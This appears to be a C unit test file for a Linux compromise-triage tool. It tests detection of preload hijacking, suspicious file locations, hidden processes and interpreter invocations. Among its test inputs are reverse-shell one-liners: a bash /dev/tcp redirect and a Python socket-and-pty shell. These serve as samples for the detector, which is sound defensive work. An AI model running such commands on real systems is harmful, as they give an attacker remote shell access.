/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/sys.h"
#include "base/table.h"
#include "kern/proc.h"
#include "triage/odd.h"
#include "triage/procs.h"
#include "triage/program.h"
#include "triage/triage.h"

static void rules_are_whole(void **state)
{
	for (const struct triage_area *a = triage_areas; a->name; a++) {
		assert_non_null(a->run);
		assert_non_null(a->needs);
		assert_true(a->limit > 0);
		assert_int_equal(triage_area_parse(a->name), a - triage_areas);
		for (const struct triage_rule *r = a->rules; r->name; r++) {
			assert_true(strlen(r->name) < FINDING_RULE_MAX);
			assert_true(strlen(r->technique) < FINDING_TECHNIQUE_MAX);
			assert_true(strlen(r->benign) && strlen(r->benign) < FINDING_REASON_MAX);
			assert_true(r->score > 0 && r->score <= 1);
			assert_int_equal(r->technique[0], 'T');
			for (const struct triage_area *b = a; b->name; b++)
				for (const struct triage_rule *s = b == a ? r + 1 : b->rules;
				     s->name; s++)
					assert_string_not_equal(r->name, s->name);
		}
	}
	assert_int_equal(triage_area_parse("nothing"), -EINVAL);
}

static void places(void **state)
{
	static const struct {
		const char *path;
		enum odd_place place;
		bool system;
	} cases[] = {
	    {"/usr/sbin/sshd", ODD_NO, true},
	    {"/usr/local/bin/app", ODD_NO, true},
	    {"/tmp/x", ODD_TEMP, false},
	    {"/var/tmp/a/b", ODD_TEMP, false},
	    {"/tmp/.x/y", ODD_HIDDEN, false},
	    {"/tmp/.mount_AppXYZ/app", ODD_TEMP, false},
	    {"/dev/shm/x", ODD_SHM, false},
	    {"/usr/lib/.x/y", ODD_HIDDEN, false},
	    {"/etc/.hid", ODD_HIDDEN, false},
	    {"/usr/lib/debug/.build-id/aa", ODD_NO, true},
	    {"/home/u/.local/bin/app", ODD_NO, false},
	    {"/home/u/.x/app", ODD_NO, false},
	    {"/var/lib/.x/app", ODD_STATE, false},
	    {"/srv/app/.venv/bin/python3", ODD_NO, false},
	    {"/opt/x/app", ODD_NO, false},
	    {"/tmpfs/x", ODD_NO, false},
	    {"", ODD_NO, false},
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		if (odd_place(cases[i].path) != cases[i].place ||
		    odd_system_path(cases[i].path) != cases[i].system)
			fail_msg("%s: place %d", cases[i].path, odd_place(cases[i].path));
	}
	assert_true(odd_is_shell("/usr/bin/dash"));
	assert_false(odd_is_shell("/usr/bin/bashful"));
	assert_true(odd_is_interpreter("/usr/bin/python3.11"));
	assert_true(odd_is_interpreter("/usr/bin/perl5.36-x86_64-linux-gnu") ||
	            odd_is_interpreter("/usr/bin/perl"));
	assert_true(odd_is_netcat("/bin/nc.openbsd"));
	assert_false(odd_is_netcat("/usr/bin/ncdu"));
}

/* --- a root of files --- */

struct seen {
	struct finding f[32];
	size_t n;
	struct triage_stats s;
};

static void on_found(void *arg, const struct finding *f)
{
	struct seen *w = arg;

	assert_true(w->n < ARRAY_SIZE(w->f));
	w->f[w->n++] = *f;
}

static void on_done(void *arg, const struct triage_stats *s)
{
	((struct seen *)arg)->s = *s;
}

static void put(const char *root, const char *path, const char *text)
{
	char full[256];
	int fd;

	snprintf(full, sizeof(full), "%s%s", root, path);
	fd = open(full, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), strlen(text));
	close(fd);
}

static void look(const char *root, const char *area, struct seen *w)
{
	struct triage_config c = {.root = root, .found = on_found, .done = on_done, .arg = w};

	memset(w, 0, sizeof(*w));
	c.areas = UINT64_C(1) << triage_area_parse(area);
	assert_int_equal(triage_run(&c, NULL), 0);
}

static void preload_of_a_mounted_root(void **state)
{
	char root[] = "/tmp/triage-test-XXXXXX", full[256];
	struct seen *w = calloc(1, sizeof(*w));

	assert_non_null(w);
	assert_non_null(mkdtemp(root));
	snprintf(full, sizeof(full), "%s/etc", root);
	assert_int_equal(mkdir(full, 0755), 0);
	look(root, "kernel", w);
	assert_int_equal(w->n, 0);

	put(root, "/etc/ld.so.preload", "# nothing\n\n");
	look(root, "kernel", w);
	assert_int_equal(w->n, 0);

	put(root, "/etc/ld.so.preload", "/usr/lib/libsnoopy.so\n");
	look(root, "kernel", w);
	assert_int_equal(w->n, 1);
	assert_true(w->f[0].score < FINDING_SCORE_ACT);

	put(root, "/etc/ld.so.preload", "/usr/lib/a.so:/dev/shm/\033[2J.so\n");
	look(root, "kernel", w);
	assert_int_equal(w->n, 1);
	assert_true(w->f[0].score >= FINDING_SCORE_ACT);
	assert_string_equal(w->f[0].rule, "preload_file");
	assert_string_equal(w->f[0].technique, "T1574.006");
	assert_int_equal(w->f[0].n_reasons, 3); /* the last one names the root */
	assert_int_equal(w->f[0].n_orders, 0);
	assert_null(strchr(w->f[0].reasons[1], '\033'));

	/* A link out of the root stays in it; a FIFO is not waited for. */
	snprintf(full, sizeof(full), "%s/etc/ld.so.preload", root);
	assert_int_equal(unlink(full), 0);
	assert_int_equal(symlink("/../../../../etc/hostname", full), 0);
	look(root, "kernel", w);
	assert_int_equal(w->n, 0);
	assert_int_equal(w->s.n_unseen, 0);
	assert_int_equal(unlink(full), 0);
	assert_int_equal(mkfifo(full, 0644), 0);
	look(root, "kernel", w);
	assert_int_equal(w->n, 0);
	assert_int_equal(w->s.n_unseen, 1);

	unlink(full);
	snprintf(full, sizeof(full), "%s/etc", root);
	rmdir(full);
	rmdir(root);
	free(w);
}

/* Older kernels answer so to openat2. */
static void forget_openat2(void)
{
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat2, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {ARRAY_SIZE(f), f};

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog))
		_exit(99);
}

/* Exit code: findings, and 100 more for each thing that was not seen. */
static int look_on_an_old_kernel(const char *root, struct seen *w)
{
	int status = 0;
	pid_t pid = fork();

	if (!pid) {
		forget_openat2();
		look(root, "kernel", w);
		_exit((int)(w->n + 100 * w->s.n_unseen));
	}
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static void without_openat2_no_link_is_followed(void **state)
{
	char root[] = "/tmp/triage-test-XXXXXX", etc[64], real[64];
	struct seen *w = calloc(1, sizeof(*w));

	assert_non_null(w);
	assert_non_null(mkdtemp(root));
	snprintf(etc, sizeof(etc), "%s/etc", root);
	snprintf(real, sizeof(real), "%s/real", root);
	assert_int_equal(mkdir(etc, 0755), 0);
	put(root, "/etc/ld.so.preload", "/tmp/x.so\n");
	assert_int_equal(look_on_an_old_kernel(root, w), 1);
	assert_int_equal(rename(etc, real), 0);
	assert_int_equal(symlink("real", etc), 0);
	assert_int_equal(look_on_an_old_kernel(root, w), 100);
	look(root, "kernel", w);
	assert_int_equal(w->n, 1);

	char rm[64];
	snprintf(rm, sizeof(rm), "rm -rf %s", root);
	assert_int_equal(system(rm), 0);
	free(w);
}

static void a_root_that_is_none(void **state)
{
	struct triage_config c = {.root = "/nonexistent/root", .found = on_found, .done = on_done};
	struct err e = {0};

	assert_int_equal(triage_run(&c, &e), -ENOENT);
	assert_true(e.text[0]);
}

/* --- programs --- */

static struct program run_as(const char *exe, const char *cmdline, size_t n)
{
	struct proc_row r = {.cmdline = (char *)(uintptr_t)cmdline, .cmdline_len = n};

	snprintf(r.exe, sizeof(r.exe), "%s", exe);
	return program_of(&r);
}
#define RUN(exe, cmdline) run_as(exe, cmdline, sizeof(cmdline) - 1)

static void ways_to_run(void **state)
{
	assert_int_equal(RUN("/bin/bash", "bash\0-i").way, WAY_BARE);
	assert_int_equal(RUN("/bin/bash", "-bash").way, WAY_BARE);
	assert_int_equal(RUN("/bin/bash", "bash\0--rcfile\0x").way, WAY_BARE);
	assert_int_equal(RUN("/bin/sh", "sh\0-c\0id").way, WAY_INLINE);
	assert_string_equal(RUN("/bin/sh", "sh\0-ec\0id").code, "id");
	assert_int_equal(RUN("/bin/sh", "sh\0/tmp/x.sh").way, WAY_SCRIPT);
	assert_true(RUN("/bin/sh", "sh\0/tmp/x.sh").odd_script);
	assert_int_equal(RUN("/bin/bash", "bash\0-o\0pipefail\0/opt/x").way, WAY_SCRIPT);
	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-m\0http.server").way, WAY_SCRIPT);
	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-c\0x").way, WAY_INLINE);
	assert_int_equal(RUN("/usr/bin/python3.11", "python3\0-").way, WAY_BARE);
	assert_int_equal(RUN("/usr/bin/perl", "perl\0-MIO\0-e\0x").way, WAY_INLINE);
	assert_int_equal(RUN("/usr/bin/php8.2", "php\0-r\0x").way, WAY_INLINE);
	assert_int_equal(RUN("/usr/bin/gawk", "gawk\0BEGIN{s=\"/inet/tcp/0/x/1\"}").way,
	                 WAY_INLINE);
	assert_int_equal(RUN("/usr/bin/python3.11", "gunicorn: master [app]").way, WAY_SCRIPT);
	assert_int_equal(RUN("/usr/bin/python3.11", "python3").way, WAY_BARE);
	assert_true(RUN("/bin/busybox", "busybox\0sh").shell);
	assert_true(RUN("/bin/busybox", "nc\0-l").netcat);
	assert_false(RUN("/bin/busybox", "syslogd").shell);
	assert_int_equal(RUN("", "").way, WAY_BARE);
}

static void words_of_sockets(void **state)
{
	char words[64];

	assert_int_equal(program_socket_words("print(1)", words, sizeof(words)), 0);
	assert_int_equal(
	    program_socket_words("bash -i >& /dev/tcp/1.2.3.4/5 0>&1", words, sizeof(words)), 3);
	assert_true(program_socket_words("import socket,pty;s=socket.socket();s.connect(x);"
	                                 "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
	                                 words, sizeof(words)) >= 3);
	assert_true(memchr(words, 0, sizeof(words)));
	assert_int_equal(
	    program_socket_words("(echo >/dev/tcp/localhost/80) 2>&1", words, sizeof(words)), 1);
}

/* --- a process that the list does not have --- */

static char list_dir[64];
static int list_without(int dir, const char *name, int flags, mode_t mode)
{
	/* The kernel's list of processes is asked for as "." of /proc. */
	return !strcmp(name, ".") ? openat(AT_FDCWD, list_dir, flags)
	                          : openat(dir, name, flags, mode);
}

static void list_all_but(int but)
{
	char path[96];
	int *pids = NULL;
	size_t n = 0;

	assert_int_equal(proc_pids(&pids, &n, NULL), 0);
	for (size_t i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "%s/%d", list_dir, pids[i]);
		if (pids[i] != but)
			assert_int_equal(mkdir(path, 0700), 0);
	}
	free(pids);
}

static bool tells_of(const struct seen *w, const char *rule, int pid)
{
	char selector[32];

	snprintf(selector, sizeof(selector), "pid:%d:", pid);
	for (size_t i = 0; i < w->n; i++)
		if (!strcmp(w->f[i].rule, rule) &&
		    !strncmp(w->f[i].selector, selector, strlen(selector)))
			return true;
	return false;
}

static void keep_hidden(void *arg, const struct finding *f)
{
	struct seen *w = arg;

	if (!strcmp(f->rule, "hidden_process") && w->n < ARRAY_SIZE(w->f))
		w->f[w->n++] = *f;
}

static void hidden_from_the_list(void **state)
{
	struct seen *w = calloc(1, sizeof(*w));
	struct triage_config c = {.found = keep_hidden,
	                          .done = on_done,
	                          .arg = w,
	                          .areas = UINT64_C(1) << triage_area_parse("processes")};
	struct sys_ops faked = sys_kernel;
	pid_t pid;

	assert_non_null(w);
	if (geteuid() != 0) {
		free(w);
		skip();
	}
	snprintf(list_dir, sizeof(list_dir), "/tmp/triage-list-XXXXXX");
	assert_non_null(mkdtemp(list_dir));
	pid = fork();
	if (!pid) {
		alarm(60);
		for (;;)
			pause();
	}
	assert_int_equal(triage_run(&c, NULL), 0);
	assert_false(tells_of(w, "hidden_process", pid));

	list_all_but(pid);
	faked.openat = list_without;
	sys = &faked;
	assert_int_equal(triage_run(&c, NULL), 0);
	sys = &sys_kernel;
	assert_true(tells_of(w, "hidden_process", pid));

	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	char rm[96];
	snprintf(rm, sizeof(rm), "rm -rf %s", list_dir);
	assert_int_equal(system(rm), 0);
	free(w);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(rules_are_whole),
	    cmocka_unit_test(places),
	    cmocka_unit_test(preload_of_a_mounted_root),
	    cmocka_unit_test(without_openat2_no_link_is_followed),
	    cmocka_unit_test(a_root_that_is_none),
	    cmocka_unit_test(ways_to_run),
	    cmocka_unit_test(words_of_sockets),
	    cmocka_unit_test(hidden_from_the_list),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
